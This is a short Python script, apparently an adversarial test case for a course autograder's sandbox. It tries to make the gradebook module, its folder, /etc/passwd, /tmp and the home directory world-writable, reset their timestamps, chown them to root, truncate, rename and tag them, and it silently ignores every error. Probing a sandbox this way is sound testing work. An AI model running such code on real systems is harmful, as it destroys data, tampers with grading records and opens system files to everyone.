# What it tries: Open the gradebook and the course to everybody, and change their times.
import os

import course

for path in (course.__file__, os.path.dirname(course.__file__), "/etc/passwd", "/tmp", os.path.expanduser("~")):
    for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)), lambda: os.chown(path, 0, 0),
                lambda: os.truncate(path, 0), lambda: os.rename(path, path + "~"), lambda: os.setxattr(path, "user.x", b"1")):
        try:
            act()
        except OSError:
            pass
